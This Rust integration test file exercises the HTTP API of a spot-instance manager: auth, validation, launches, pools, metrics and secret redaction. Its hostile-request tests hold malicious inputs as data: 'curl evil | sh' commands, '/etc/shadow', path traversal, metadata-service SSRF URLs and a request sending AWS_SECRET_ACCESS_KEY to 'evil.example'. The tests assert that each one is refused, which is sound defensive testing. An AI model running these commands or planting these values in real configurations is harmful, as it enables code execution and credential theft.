//! The HTTP API, driven in-process (tower `oneshot`) over FakeCloud: auth,
//! registration with field-level validation errors, the daemon launching a
//! registered box, deregistration with stop, events, hostile requests.

use spotkeeper_cloud::prelude::*;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use spotkeeper_cloud::fake::FakeCloud;
use spotkeeper_engine::api::{ApiState, MAX_BODY, router};
use spotkeeper_engine::boxes::Timing;
use spotkeeper_engine::config::{self, Secret};
use spotkeeper_engine::daemon::Daemon;
use spotkeeper_engine::daemon::health::{Health, HealthState};
use spotkeeper_engine::daemon::seen::LastSeen;
use spotkeeper_engine::store::Store;
use tower::ServiceExt;

const TOKEN: &str = "test-token-0123456789";

struct World {
    cloud: Arc<FakeCloud>,
    store: Store,
    config: Arc<config::Config>,
    locks: tempfile::TempDir,
    dns_cache: spotkeeper_engine::api::DnsCache,
    health: HealthState,
    seen: LastSeen,
    queue: spotkeeper_engine::api::QueueSlot,
}

async fn world() -> World {
    let cloud = FakeCloud::new(&["us-east-1a", "us-east-1b"]);
    cloud.set_price("t3.micro", "us-east-1a", 0.004);
    cloud.set_price("t3.micro", "us-east-1b", 0.003);
    let text = "owner = \"tester\"\n[api]\ndemand_hosts = [\"127.0.0.1\"]\n[box.from-config]\nimage = \"ami-0123456789abcdef0\"\ninstance_types = [\"t3.micro\"]\nmax_price = 0.02\nready = { check = \"none\" }\n";
    let config = config::parse(Path::new("t.toml"), text).expect("valid");
    World {
        cloud: Arc::new(cloud),
        store: Store::memory().await.expect("store"),
        config: Arc::new(config),
        locks: tempfile::tempdir().expect("dir"),
        dns_cache: Default::default(),
        seen: LastSeen::default(),
        queue: Default::default(),
        health: {
            let h = HealthState::default();
            h.set(Health::Ok);
            h
        },
    }
}

impl World {
    fn state(&self) -> ApiState {
        ApiState {
            daemon_id: "test-daemon".into(),
            cloud: self.cloud.clone(),
            store: self.store.clone(),
            config: self.config.clone(),
            token: Secret::new(TOKEN),
            lock_dir: self.locks.path().to_path_buf(),
            wake: Arc::new(tokio::sync::Notify::new()),
            metrics: Arc::default(),
            health: self.health.clone(),
            dns_cache: self.dns_cache.clone(),
            seen: self.seen.clone(),
            queue: self.queue.clone(),
        }
    }

    /// A daemon over this world whose observations the API shows.
    fn daemon(&self) -> Daemon<'_> {
        Daemon::new(
            self.cloud.as_ref(),
            &self.store,
            &self.config,
            self.locks.path(),
        )
        .with_seen(self.seen.clone())
    }

    /// The event log as `uri` (`/api/events?…`) serves it.
    async fn events(&self, uri: &str) -> Vec<Value> {
        let (_, events) = self.call("GET", uri, Some(TOKEN), None).await;
        events.as_array().expect("events").clone()
    }

    /// POSTs `body` with the token.
    async fn post(&self, uri: &str, body: &Value) -> (StatusCode, Value) {
        self.call("POST", uri, Some(TOKEN), Some(body.to_string()))
            .await
    }

    async fn call(
        &self,
        method: &str,
        uri: &str,
        token: Option<&str>,
        body: Option<String>,
    ) -> (StatusCode, Value) {
        let mut req = Request::builder()
            .method(method)
            .uri(uri)
            .header("content-type", "application/json");
        if let Some(t) = token {
            req = req.header("authorization", format!("Bearer {t}"));
        }
        let req = req
            .body(body.map(Body::from).unwrap_or_else(Body::empty))
            .expect("request");
        let resp = router(self.state()).oneshot(req).await.expect("response");
        let status = resp.status();
        let bytes = resp.into_body().collect().await.expect("body").to_bytes();
        let value = serde_json::from_slice(&bytes)
            .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned()));
        (status, value)
    }
}

fn good_box() -> Value {
    json!({ "name": "web", "image": "ami-0123456789abcdef0", "instance_types": ["t3.micro"], "max_price": 0.02, "ready": { "check": "none" } })
}

/// GETs `uri` without a token.
async fn get(state: ApiState, uri: &str) -> axum::response::Response {
    router(state)
        .oneshot(
            Request::builder()
                .uri(uri)
                .body(Body::empty())
                .expect("req"),
        )
        .await
        .expect("resp")
}

#[tokio::test]
async fn healthz_is_open_and_api_routes_need_the_token() {
    let w = world().await;
    assert_eq!(
        w.call("GET", "/healthz", None, None).await.0,
        StatusCode::OK
    );
    // Starting, or unable to reach AWS: 503 (a load balancer sees it), and why.
    w.health.set(Health::Starting);
    let (status, body) = w.call("GET", "/healthz", None, None).await;
    assert_eq!(
        (status, &body["status"]),
        (StatusCode::SERVICE_UNAVAILABLE, &json!("starting"))
    );
    w.health.set(Health::Degraded(
        "the event queue cannot be read: timeout".into(),
    ));
    let (status, body) = w.call("GET", "/healthz", None, None).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(body["status"], "degraded");
    assert_eq!(body["reason"], "the event queue cannot be read: timeout");
    w.health.set(Health::Ok);
    let (status, body) = w.call("GET", "/api/boxes", None, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(
        body["error"].as_str().is_some_and(|e| e.contains("Bearer")),
        "{body}"
    );
    assert_eq!(
        w.call("GET", "/api/boxes", Some("wrong-token-xxxxxxxxx"), None)
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        w.call("GET", "/api/boxes", Some(TOKEN), None).await,
        (StatusCode::OK, json!([]))
    );
    assert_eq!(
        w.call("GET", "/nowhere", None, None).await.0,
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn registration_errors_name_the_field_and_hostile_bodies_get_4xx() {
    let w = world().await;
    let post = |body: String| w.call("POST", "/api/boxes", Some(TOKEN), Some(body));
    let (s, b) = post("{not json".into()).await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{b}");
    let mut bad = good_box();
    bad["max_price"] = json!(-1);
    let (s, b) = post(bad.to_string()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        b["error"].as_str().is_some_and(|e| e.contains("max_price")),
        "{b}"
    );
    let mut unknown = good_box();
    unknown["colour"] = json!("red");
    let (s, b) = post(unknown.to_string()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        b["error"].as_str().is_some_and(|e| e.contains("colour")),
        "{b}"
    );
    let mut no_name = good_box();
    no_name.as_object_mut().expect("object").remove("name");
    assert_eq!(
        post(no_name.to_string()).await.0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    let mut file = good_box();
    file["user_data_file"] = json!("/etc/shadow");
    let (s, b) = post(file.to_string()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        b["error"]
            .as_str()
            .is_some_and(|e| e.contains("user_data_file")),
        "{b}"
    );
    let mut clash = good_box();
    clash["name"] = json!("from-config");
    assert_eq!(post(clash.to_string()).await.0, StatusCode::CONFLICT);
    let mut evil = good_box();
    evil["name"] = json!("../../etc");
    assert_eq!(
        post(evil.to_string()).await.0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    let huge = json!({ "name": "big", "user_data": "x".repeat(MAX_BODY) });
    assert_eq!(
        post(huge.to_string()).await.0,
        StatusCode::PAYLOAD_TOO_LARGE
    );
    for (method, path) in [
        ("GET", "/api/events?limit=0"),
        ("GET", "/api/events?colour=red"),
        ("DELETE", "/api/boxes/web?stop=maybe"),
    ] {
        let status = w.call(method, path, Some(TOKEN), None).await.0;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{method} {path}");
    }
    assert!(
        w.store
            .for_owner("tester")
            .managed_boxes()
            .await
            .expect("boxes")
            .is_empty(),
        "nothing half-registered"
    );
}

#[tokio::test]
async fn a_registered_box_is_launched_by_the_daemon_and_deregistering_with_stop_takes_it_down() {
    let w = world().await;
    let (s, b) = w.post("/api/boxes", &good_box()).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let daemon = w.daemon().with_timing(Timing {
        poll: Duration::from_millis(1),
        running_timeout: Duration::from_secs(5),
        stop_timeout: Duration::from_secs(5),
    });
    assert_eq!(daemon.reconcile().await.expect("pass").len(), 1);
    // The API shows what the daemon's last pass saw: the next one sees it.
    daemon.reconcile().await.expect("pass");
    let (s, one) = w.call("GET", "/api/boxes/web", Some(TOKEN), None).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(one["source"], "api");
    assert_eq!(one["zone"], "us-east-1b", "cheapest zone");
    assert!(
        one["instance_id"]
            .as_str()
            .is_some_and(|i| i.starts_with("i-")),
        "{one}"
    );
    let events = w.events("/api/events?box=web&limit=10").await;
    assert!(
        events.iter().any(|e| e["kind"] == "registered"),
        "{events:?}"
    );

    // A stop is a job: accepted at once, done by the daemon.
    let (s, del) = w
        .call("DELETE", "/api/boxes/web?stop=true", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{del}");
    assert_eq!(del["stop"]["state"], "pending", "{del}");
    assert_eq!(
        w.cloud
            .instance(&spotkeeper_cloud::InstanceId::new(
                one["instance_id"].as_str().expect("id")
            ))
            .await
            .expect("describe")
            .expect("known")
            .state,
        spotkeeper_cloud::InstanceState::Running,
        "nothing done by the request itself"
    );
    // Asked twice: one job.
    let (s, again) = w
        .call("DELETE", "/api/boxes/web?stop=true", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::ACCEPTED);
    assert_eq!(again["stop"]["requested_at"], del["stop"]["requested_at"]);
    // Registering it again meanwhile is refused: it is being stopped; so is
    // letting it go unmanaged (nobody would finish the stop).
    let (s, b) = w.post("/api/boxes", &good_box()).await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    let (s, b) = w.call("DELETE", "/api/boxes/web", Some(TOKEN), None).await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    assert!(
        b["error"]
            .as_str()
            .is_some_and(|e| e.contains("being stopped")),
        "{b}"
    );
    let (s, pending) = w.call("GET", "/api/boxes/web", Some(TOKEN), None).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(pending["stop"]["state"], "pending", "{pending}");
    let done = daemon.reconcile().await.expect("pass");
    assert!(
        done.iter().any(|d| d.contains("box web stopped")),
        "{done:?}"
    );
    let live = w.cloud.all_instances();
    assert!(live.iter().all(|i| !i.state.is_live()), "{live:?}");
    let (s, finished) = w.call("GET", "/api/boxes/web", Some(TOKEN), None).await;
    assert_eq!(s, StatusCode::OK, "what the stop did");
    assert_eq!(finished["managed"], false);
    assert_eq!(finished["stop"]["state"], "done", "{finished}");
    let steps: Vec<&str> = finished["stop"]["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .map(|s| s["step"].as_str().expect("step"))
        .collect();
    assert_eq!(steps, ["terminating", "done"], "{finished}");
    assert!(
        daemon.reconcile().await.expect("pass").is_empty(),
        "gone for good"
    );
    // Done: the name is free again.
    let (s, b) = w.post("/api/boxes", &good_box()).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
}

#[tokio::test]
async fn the_token_comes_from_config_env_or_a_0600_file_made_on_first_start() {
    use std::os::unix::fs::PermissionsExt;
    let w = world().await;
    let dir = tempfile::tempdir().expect("dir");
    let file = dir.path().join("state/api-token");
    let made = spotkeeper_engine::api::load_or_make_token(&w.config, None, &file).expect("made");
    assert_eq!(made.expose().len(), 48);
    assert_eq!(
        std::fs::metadata(&file).expect("file").permissions().mode() & 0o777,
        0o600
    );
    let again = spotkeeper_engine::api::load_or_make_token(&w.config, None, &file).expect("read");
    assert_eq!(again, made, "stable across restarts");
    let from_env = spotkeeper_engine::api::load_or_make_token(
        &w.config,
        Some("env-token-0123456789".into()),
        &file,
    )
    .expect("env");
    assert_eq!(from_env.expose(), "env-token-0123456789");
    assert_eq!(format!("{made:?}"), "Secret(***)", "never in Debug");
}

#[tokio::test]
async fn metrics_count_events_replacements_and_failures() {
    let w = world().await;
    let timing = Timing {
        poll: Duration::from_millis(1),
        running_timeout: Duration::from_secs(5),
        stop_timeout: Duration::from_secs(5),
    };
    let daemon = w.daemon().with_timing(timing);
    let ctx = spotkeeper_engine::boxes::Ctx {
        cloud: w.cloud.as_ref(),
        store: &w.store,
        owner: "tester",
        lock_dir: w.locks.path(),
        progress: &spotkeeper_engine::boxes::Silent,
        timing,
    };
    let first = spotkeeper_engine::boxes::up(&ctx, &w.config.boxes["from-config"])
        .await
        .expect("up")
        .instance;
    let warning = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/events/spot-interruption-warning.json"),
    )
    .expect("fixture")
    .replace("i-1234567890abcdef0", first.id.as_str());
    daemon.handle(&warning).await.expect("handled");
    daemon.handle(&warning).await.expect("duplicate");
    daemon.handle("garbage").await.expect("garbage");
    daemon.reconcile().await.expect("pass");
    let text = daemon.metrics().render();
    assert!(
        text.contains("spotkeeper_events_total{kind=\"spot-interruption\"} 1"),
        "{text}"
    );
    assert!(
        text.contains("spotkeeper_events_total{kind=\"duplicate\"} 1"),
        "{text}"
    );
    assert!(
        text.contains("spotkeeper_events_total{kind=\"garbage\"} 1"),
        "{text}"
    );
    assert!(text.contains("spotkeeper_replacements_total 1"), "{text}");
    assert!(
        text.contains("spotkeeper_warning_to_running_seconds_count 1"),
        "{text}"
    );
    let mut state = w.state();
    state.metrics = daemon.metrics();
    let resp = get(state, "/metrics").await;
    assert_eq!(resp.status(), StatusCode::OK);
    let body = resp.into_body().collect().await.expect("body").to_bytes();
    assert!(
        String::from_utf8_lossy(&body).contains("spotkeeper_replacements_total 1"),
        "served without auth"
    );
}

#[tokio::test]
async fn the_web_page_is_served_and_holds_no_data_itself() {
    let w = world().await;
    let resp = get(w.state(), "/").await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.headers()["content-type"], "text/html; charset=utf-8");
    let html = String::from_utf8(
        resp.into_body()
            .collect()
            .await
            .expect("body")
            .to_bytes()
            .to_vec(),
    )
    .expect("utf-8");
    assert!(
        html.contains("<title>spotkeeper</title>")
            && html.contains("/api/boxes")
            && html.contains("/api/pools")
            && html.contains("Authorization")
    );
    assert!(!html.contains(TOKEN));
}

struct Demand(u64);

#[async_trait::async_trait]
impl spotkeeper_engine::pools::demand::DemandReader for Demand {
    async fn pending(&self, _d: &spotkeeper_engine::pools::Demand) -> Result<u64, String> {
        Ok(self.0)
    }
}

fn good_pool() -> Value {
    json!({
        "name": "builders",
        "image": "ami-0123456789abcdef0",
        "instance_types": [ { "type": "t3.micro", "capacity": 1 }, { "type": "t3.large", "capacity": 4, "max_price": 0.09 } ],
        "max_capacity": 6,
        "demand": { "http": "http://127.0.0.1:9/jobs" }
    })
}

#[tokio::test]
async fn pools_are_registered_updated_scaled_by_the_daemon_and_deleted_with_their_instances() {
    let w = world().await;
    // Validation errors name the field.
    for (patch, expect) in [
        (
            json!({ "instance_types": [ { "type": "t3.micro", "capacity": 0 } ] }),
            "capacity of t3.micro",
        ),
        (json!({ "min_capacity": 9 }), "above max_capacity"),
        (
            json!({ "instance_types": [ { "type": "t3.micro", "weight": 2 } ] }),
            "weight",
        ),
        (
            json!({ "demand": { "http": "http://x/", "sqs": "q" } }),
            "exactly one source",
        ),
        (json!({ "max_capacity": "many" }), "max_capacity"),
    ] {
        let mut body = good_pool();
        for (k, v) in patch.as_object().expect("object") {
            body[k] = v.clone();
        }
        let (s, b) = w.post("/api/pools", &body).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
        assert!(
            b["error"].as_str().expect("error").contains(expect),
            "{expect}: {b}"
        );
    }
    let (s, _) = w
        .call("POST", "/api/pools", None, Some(good_pool().to_string()))
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, b) = w.post("/api/pools", &good_pool()).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    // Update: same name, new max.
    let mut update = good_pool();
    update["max_capacity"] = json!(3);
    let (s, b) = w.post("/api/pools", &update).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b["updated"], true);
    // The daemon scales it (demand 10 → clamped to the new max 3).
    let daemon = w.daemon().with_demand(Box::new(Demand(10)));
    daemon.reconcile().await.expect("pass");
    // The view is the daemon's last observation: the next pass's sees them.
    daemon.reconcile().await.expect("pass");
    let (s, view) = w
        .call("GET", "/api/pools/builders", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{view}");
    assert_eq!(view["desired"], 3);
    assert_eq!(view["current"], 3);
    assert_eq!(view["source"], "api");
    // Metrics carry the pool.
    let text = daemon.metrics().render();
    assert!(
        text.contains("spotkeeper_pool_desired_units{pool=\"builders\"} 3"),
        "{text}"
    );
    assert!(
        text.contains("spotkeeper_pool_launches_total{pool=\"builders\",kind=\"spot\"} 3"),
        "{text}"
    );
    let (_, list) = w.call("GET", "/api/pools", Some(TOKEN), None).await;
    assert_eq!(list.as_array().expect("array").len(), 1);
    let live = |w: &World| {
        w.cloud
            .all_instances()
            .into_iter()
            .filter(|i| i.state.is_live())
            .count()
    };
    assert_eq!(live(&w), 3);
    // Delete: deregistered, instances terminated.
    let (s, b) = w
        .call("DELETE", "/api/pools/builders", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b["terminated"], 3);
    assert_eq!(live(&w), 0);
    let (s, _) = w
        .call("GET", "/api/pools/builders", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = w
        .call("DELETE", "/api/pools/builders", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    // The daemon's record of what it saw (this pass observed before launching).
    daemon.reconcile().await.expect("pass");
    let (s, seen) = w
        .call("GET", "/api/instances?limit=10", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{seen}");
    assert_eq!(
        seen.as_array()
            .expect("array")
            .iter()
            .filter(|i| i["pool"] == "builders")
            .count(),
        3,
        "{seen}"
    );
    let (s, _) = w
        .call("GET", "/api/instances?limit=0", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    // The event log names the pool.
    let events = w.events("/api/events?limit=100").await;
    assert!(
        events
            .iter()
            .any(|e| e["pool"] == "builders" && e["kind"] == "launch"),
        "{events:?}"
    );
    // The deleted pool's series are gone (pool names through the API come
    // and go: the families would grow without end).
    let text = daemon.metrics().render();
    assert!(!text.contains("pool=\"builders\""), "{text}");
}

#[tokio::test]
async fn the_api_token_is_not_a_shell_commands_hosts_ssh_adoption_and_foreign_roles_are_refused() {
    let w = world().await;
    let post = |uri: &'static str, body: Value| {
        let w = &w;
        async move {
            w.call("POST", uri, Some(TOKEN), Some(body.to_string()))
                .await
        }
    };
    for (patch, field) in [
        (
            json!({ "ready": { "check": "command", "command": "curl evil | sh" } }),
            "ready.check",
        ),
        (
            json!({ "ready": { "check": "tcp", "port": 22, "host": "169.254.169.254" } }),
            "ready.host",
        ),
        (
            json!({ "ssh": { "user": "root", "host": "10.0.0.1" } }),
            "ssh",
        ),
        (
            json!({ "on_interruption": { "command": "curl evil | sh" } }),
            "on_interruption",
        ),
        (
            json!({ "iam_instance_profile": "admin" }),
            "iam_instance_profile",
        ),
        (json!({ "adopt_elastic_ip": true }), "adopt_elastic_ip"),
        (
            json!({ "data_volume": { "name": "prod-db", "size_gb": 5, "adopt": true } }),
            "data_volume.adopt",
        ),
        (
            json!({ "root_volume": { "name": "prod-root", "size_gb": 8, "adopt": true } }),
            "root_volume.adopt",
        ),
        (
            json!({ "dns": { "zone": "example.com", "name": "www.example.com", "adopt": true } }),
            "dns.adopt",
        ),
        (
            json!({ "metadata": { "http_tokens": "optional" } }),
            "metadata.http_tokens",
        ),
    ] {
        let mut body = good_box();
        for (k, v) in patch.as_object().expect("object") {
            body[k] = v.clone();
        }
        let (s, b) = post("/api/boxes", body).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{field}: {b}");
        assert!(
            b["error"].as_str().expect("error").starts_with(field),
            "{field}: {b}"
        );
    }
    let mut pool = good_pool();
    pool["iam_instance_profile"] = json!("admin");
    let (s, b) = post("/api/pools", pool).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    // A demand host the operator did not list: the metadata service, an
    // internal name.
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "https://db.internal:5432/x",
        "http://[::1]:9/jobs",
    ] {
        let mut pool = good_pool();
        pool["demand"] = json!({ "http": url });
        let (s, b) = post("/api/pools", pool).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{url}: {b}");
        assert!(
            b["error"].as_str().is_some_and(
                |e| e.starts_with("demand.http: host") && e.contains("[api] demand_hosts")
            ),
            "{url}: {b}"
        );
    }
    // The daemon's environment sent to a URL of the caller's choosing: refused.
    let mut pool = good_pool();
    pool["demand"] =
        json!({ "http": "https://evil.example/x", "bearer_env": "AWS_SECRET_ACCESS_KEY" });
    let (s, b) = post("/api/pools", pool).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    assert!(
        b["error"]
            .as_str()
            .is_some_and(|e| e.starts_with("demand.bearer_env")),
        "{b}"
    );
    assert!(
        w.store
            .for_owner("tester")
            .managed_boxes()
            .await
            .expect("boxes")
            .is_empty()
    );

    // The operator opts in: commands and the listed profile are accepted.
    let text =
        "owner = \"tester\"\n[api]\nallow_commands = true\ninstance_profiles = [\"box-role\"]\n";
    let open = World {
        config: Arc::new(config::parse(Path::new("t.toml"), text).expect("valid")),
        ..world().await
    };
    let mut body = good_box();
    body["ready"] = json!({ "check": "command", "command": "true" });
    body["on_interruption"] = json!({ "command": "sync", "timeout": "20s" });
    body["iam_instance_profile"] = json!("box-role");
    let (s, b) = open
        .call("POST", "/api/boxes", Some(TOKEN), Some(body.to_string()))
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");

    // A box stored with a command (registered when it was allowed) is not
    // run by a daemon whose config does not allow it.
    let daemon = w.daemon();
    let mut stored = good_box();
    stored["ready"] = json!({ "check": "command", "command": "touch /tmp/pwned" });
    w.store
        .for_owner("tester")
        .register_box("web", "api", Some(&stored.to_string()))
        .await
        .expect("stored");
    assert!(daemon.reconcile().await.expect("pass").is_empty());
    assert_eq!(w.cloud.count("RunInstances"), 0);
    let events = w
        .store
        .for_owner("tester")
        .events(Some("web"), 10)
        .await
        .expect("events");
    assert!(
        events
            .iter()
            .any(|e| e.kind == "bad-box" && e.message.contains("ready.check")),
        "{events:?}"
    );
}

#[tokio::test]
async fn the_notify_route_shows_the_sinks_without_their_url_path_or_secret() {
    let text = "owner = \"tester\"\n[[notify]]\nname = \"chat\"\nkind = \"slack\"\nurl = \"https://hooks.slack.com/services/T0/B0/very-secret-path\"\n\
                [[notify]]\nkind = \"webhook\"\nurl = \"https://hooks.example.com:8443/in?key=k3y\"\nsecret = \"0123456789abcdef-shh\"\n";
    let w = World {
        config: Arc::new(config::parse(Path::new("t.toml"), text).expect("valid")),
        ..world().await
    };
    w.store
        .for_owner("tester")
        .notify_cursor("chat")
        .await
        .expect("cursor");
    let (s, b) = w.call("GET", "/api/notify", None, None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "{b}");
    let (s, b) = w.call("GET", "/api/notify", Some(TOKEN), None).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b[0]["name"], "chat");
    assert_eq!(b[0]["host"], "https://hooks.slack.com");
    assert_eq!(b[0]["delivered_up_to"], 0);
    assert_eq!(b[1]["name"], "webhook-2");
    assert_eq!(b[1]["host"], "https://hooks.example.com:8443");
    assert_eq!(b[1]["delivered_up_to"], Value::Null, "never started");
    let text = b.to_string();
    for secret in ["very-secret-path", "k3y", "0123456789abcdef-shh"] {
        assert!(!text.contains(secret), "{text}");
    }
}

#[tokio::test]
async fn charts_are_svg_of_the_recorded_prices_and_bad_queries_are_refused() {
    let w = world().await;
    w.store
        .for_owner("tester")
        .register_box("from-config", "up", None)
        .await
        .expect("managed");
    let now = spotkeeper_engine::store::unix_now();
    let price = |zone: &str, p: f64| spotkeeper_cloud::SpotPrice {
        instance_type: "t3.micro".into(),
        zone: zone.into(),
        price: p,
    };
    w.store
        .record_prices(
            &[price("us-east-1a", 0.004), price("us-east-1b", 0.003)],
            now - 600,
        )
        .await
        .expect("prices");
    w.store
        .record_prices(&[price("us-east-1a", 0.005)], now - 60)
        .await
        .expect("prices");
    let (s, svg) = w
        .call(
            "GET",
            "/api/charts/prices?box=from-config",
            Some(TOKEN),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{svg}");
    let svg = svg.as_str().expect("svg text").to_owned();
    assert!(svg.starts_with("<svg"), "{svg}");
    assert!(
        svg.contains("t3.micro us-east-1a") && svg.contains("ceiling 0.02"),
        "{svg}"
    );
    assert_eq!(svg.matches("<circle").count(), 3, "one dot per sample");

    for (uri, want) in [
        ("/api/charts/prices", StatusCode::BAD_REQUEST),
        (
            "/api/charts/prices?box=from-config&pool=p",
            StatusCode::BAD_REQUEST,
        ),
        (
            "/api/charts/prices?box=from-config&days=31",
            StatusCode::BAD_REQUEST,
        ),
        (
            "/api/charts/prices?box=from-config&days=-1",
            StatusCode::BAD_REQUEST,
        ),
        ("/api/charts/prices?box=nope", StatusCode::NOT_FOUND),
        ("/api/charts/prices?pool=nope", StatusCode::NOT_FOUND),
        ("/api/charts/pool", StatusCode::BAD_REQUEST),
        ("/api/charts/prices?box=%3Cscript%3E", StatusCode::NOT_FOUND),
        ("/api/cost?since=forever", StatusCode::BAD_REQUEST),
        ("/api/cost?since=400d", StatusCode::BAD_REQUEST),
    ] {
        let (s, b) = w.call("GET", uri, Some(TOKEN), None).await;
        assert_eq!(s, want, "{uri}: {b}");
    }
    let (s, _) = w
        .call("GET", "/api/charts/prices?box=from-config", None, None)
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, b) = w
        .call("GET", "/api/charts/pool?pool=any", Some(TOKEN), None)
        .await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        b.as_str().is_some_and(|t| t.contains("no samples yet")),
        "{b}"
    );

    // The boxes list carries the price in effect and the ceiling.
    let (s, boxes) = w.call("GET", "/api/boxes", Some(TOKEN), None).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(boxes[0]["max_price"], 0.02);
}

#[tokio::test]
async fn the_boxes_dns_status_is_read_from_route53_once_a_minute_not_on_every_refresh() {
    let text = "owner = \"tester\"\n[box.web]\nimage = \"ami-0123456789abcdef0\"\ninstance_types = [\"t3.micro\"]\nmax_price = 0.02\n\
                dns = { zone = \"example.com\", name = \"web.example.com\" }\n";
    let w = World {
        config: Arc::new(config::parse(Path::new("t.toml"), text).expect("valid")),
        ..world().await
    };
    w.cloud.add_dns_zone("example.com");
    w.store
        .for_owner("tester")
        .register_box("web", "up", None)
        .await
        .expect("managed");
    for _ in 0..5 {
        let (s, b) = w.call("GET", "/api/boxes", Some(TOKEN), None).await;
        assert_eq!(s, StatusCode::OK, "{b}");
        assert_eq!(b[0]["dns"]["name"], "web.example.com.", "{b}");
        assert_eq!(b[0]["dns"]["matches"], false);
    }
    assert_eq!(
        w.cloud.count("ListResourceRecordSets"),
        2,
        "one status read (the record and its mark), then the cache"
    );
}

#[tokio::test]
async fn a_box_is_never_taken_over_and_a_volume_never_named_twice_through_the_api() {
    use spotkeeper_cloud::model::tags;
    use spotkeeper_cloud::prelude::*;
    let text = "owner = \"tester\"\n[box.from-config]\nimage = \"ami-0123456789abcdef0\"\ninstance_types = [\"t3.micro\"]\nmax_price = 0.02\nready = { check = \"none\" }\ndata_volume = { name = \"config-data\", size_gb = 5 }\n";
    let w = World {
        config: Arc::new(config::parse(Path::new("t.toml"), text).expect("valid")),
        ..world().await
    };
    let with_volume = |name: &str, key: &str, volume: &str| {
        let mut b = good_box();
        b["name"] = json!(name);
        b[key] = json!({ "name": volume, "size_gb": 5 });
        if key == "root_volume" {
            b[key] = json!({ "name": volume });
        }
        b
    };
    // The config box's volume.
    let (status, body) = w
        .post(
            "/api/boxes",
            &with_volume("web", "data_volume", "config-data"),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(
        body["error"].as_str().is_some_and(|e| e.starts_with(
            "data_volume.name: volume \"config-data\" is box \"from-config\"'s data_volume"
        )),
        "{body}"
    );
    // Another registered box's volume.
    let (status, _) = w
        .post("/api/boxes", &with_volume("web", "data_volume", "web-data"))
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, body) = w
        .post(
            "/api/boxes",
            &with_volume("api2", "root_volume", "web-data"),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(
        body["error"]
            .as_str()
            .is_some_and(|e| e.starts_with("root_volume.name")),
        "{body}"
    );
    // Re-registering a box with its own volume is fine.
    let (status, body) = w
        .post("/api/boxes", &with_volume("web", "data_volume", "web-data"))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    // A volume AWS has tagged for a box this daemon does not know.
    w.cloud
        .create_volume(
            "us-east-1a",
            Some(5),
            "gp3",
            None,
            &[
                (tags::NAME.into(), "elsewhere-data".into()),
                (tags::OWNER.into(), "tester".into()),
                (tags::BOX.into(), "elsewhere".into()),
            ],
        )
        .await
        .expect("volume");
    let (status, body) = w
        .post(
            "/api/boxes",
            &with_volume("api3", "data_volume", "elsewhere-data"),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(
        body["error"]
            .as_str()
            .is_some_and(|e| e.contains("is box \"elsewhere\"'s")),
        "{body}"
    );

    // A box `up` started from a config file (recorded as such), and one
    // running in AWS that this daemon never registered: 409.
    w.store
        .for_owner("tester")
        .register_box("cli-box", "up", None)
        .await
        .expect("managed");
    let mut b = good_box();
    b["name"] = json!("cli-box");
    let (status, body) = w.post("/api/boxes", &b).await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert!(
